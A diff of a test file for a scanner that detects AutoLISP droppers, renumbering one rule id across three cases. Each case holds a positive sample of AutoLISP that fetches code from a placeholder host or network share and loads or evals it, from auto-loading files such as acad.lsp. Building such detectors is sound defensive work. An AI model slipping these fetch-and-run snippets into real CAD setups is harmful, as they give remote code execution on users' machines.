@@ -1277,7 +1277,7 @@ describe('adversarial downloaded-file runs', () => {
 
 describeRuleCases('dropper (AutoLISP fetched and loaded)', [
   {
-    id: 'SG-DROPPER-911',
+    id: 'SG-DROPPER-025',
     file: 'support/acad.lsp',
     positive:
       '(vl-load-com)\n(defun tools:pull (/ req path fh)\n  (setq path (strcat (getvar "TEMPPREFIX") "tools.lsp"))\n  (setq req (vlax-create-object "WinHttp.WinHttpRequest.5.1"))\n  (vlax-invoke-method req \'Open "GET" "http://cad.example.net/tools.lsp" :vlax-false)\n  (vlax-invoke-method req \'Send)\n  (setq fh (open path "w"))\n  (princ (vlax-get-property req \'ResponseText) fh)\n  (close fh)\n  (load path))\n(tools:pull)\n',
@@ -1286,7 +1286,7 @@ describeRuleCases('dropper (AutoLISP fetched and loaded)', [
       '(vl-load-com)\n(defun tools:check (/ req log fh)\n  (setq req (vlax-create-object "WinHttp.WinHttpRequest.5.1"))\n  (vlax-invoke-method req \'Open "GET" "https://cad.example.net/version.txt" :vlax-false)\n  (vlax-invoke-method req \'Send)\n  (setq log (strcat (getvar "TEMPPREFIX") "tools.log") fh (open log "a"))\n  (write-line (vlax-get-property req \'ResponseText) fh)\n  (close fh)\n  (load "tools-local.lsp"))\n',
   },
   {
-    id: 'SG-DROPPER-911',
+    id: 'SG-DROPPER-025',
     file: 'lisp/blocks.lsp',
     positive:
       '(defun blk:update (/ x)\n  (setq x (vlax-get-or-create-object "Msxml2.XMLHTTP"))\n  (vlax-invoke x \'open "GET" blk:*url* :vlax-false)\n  (vlax-invoke x \'send)\n  (eval (read (vlax-get x \'responseText))))\n',
@@ -1294,7 +1294,7 @@ describeRuleCases('dropper (AutoLISP fetched and loaded)', [
       '(defun blk:settings (/ fh)\n  (setq fh (open (findfile "blocks.cfg") "r"))\n  (eval (read (read-line fh)))\n  (close fh))\n',
   },
   {
-    id: 'SG-DROPPER-911',
+    id: 'SG-DROPPER-025',
     file: 'menus/office.mnl',
     positive:
       '(setq tmp (vl-filename-mktemp "ofc" nil ".lsp"))\n(vl-file-copy "\\\\\\\\files.example.net\\\\cad\\\\ofc.lsp" tmp)\n(load tmp)\n',
